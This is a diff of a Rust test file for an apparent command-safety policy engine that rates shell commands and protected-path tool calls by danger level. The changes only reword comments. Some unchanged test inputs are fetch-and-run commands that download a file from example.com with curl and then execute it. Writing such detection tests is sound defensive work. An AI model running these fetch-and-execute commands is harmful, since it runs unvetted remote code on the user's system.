@@ -1,4 +1,5 @@
-//! How much care a command wants, where its parts together want more than each alone, and calls that touch what is protected.
+//! Danger levels: of commands whose parts are more dangerous together than alone, and of calls that touch
+//! protected paths.
 
 use sekisho_policy::{
     Call, DangerCode, DangerLevel, Decision, Effect, Layer, LayerKind, Layers, Policy, Rule, JudgeContext,
@@ -95,7 +96,7 @@ fn to_run_a_file_that_was_fetched_is_dangerous() {
             "bash -c 'curl -o x https://example.com/x'; deno run x",
         ],
     );
-    // Where it is known where commands run, a file is known by where it is.
+    // If the directories are known, a file is identified by its path.
     check_in("/w", "cd d && curl -o x https://example.com/x; ./d/x", DangerLevel::Danger);
     check_in("/w", "curl -o x https://example.com/x; python3 /w/x", DangerLevel::Danger);
     check_in("/w", "curl -o x https://example.com/x; python3 d/x", DangerLevel::Caution);
@@ -196,7 +197,7 @@ fn to_fetch_or_to_run_alone_is_a_matter_of_caution() {
     );
 }
 
-/// A protected path is dangerous to touch, whether no rule speaks, or one allows, asks or denies.
+/// Touching a protected path is dangerous, whether no rule matches or a rule allows, confirms or denies.
 #[track_caller]
 fn touches(tool: &str, input: Value) {
     let rule: Rule = serde_json::from_value(json!({ "tool": tool })).unwrap();
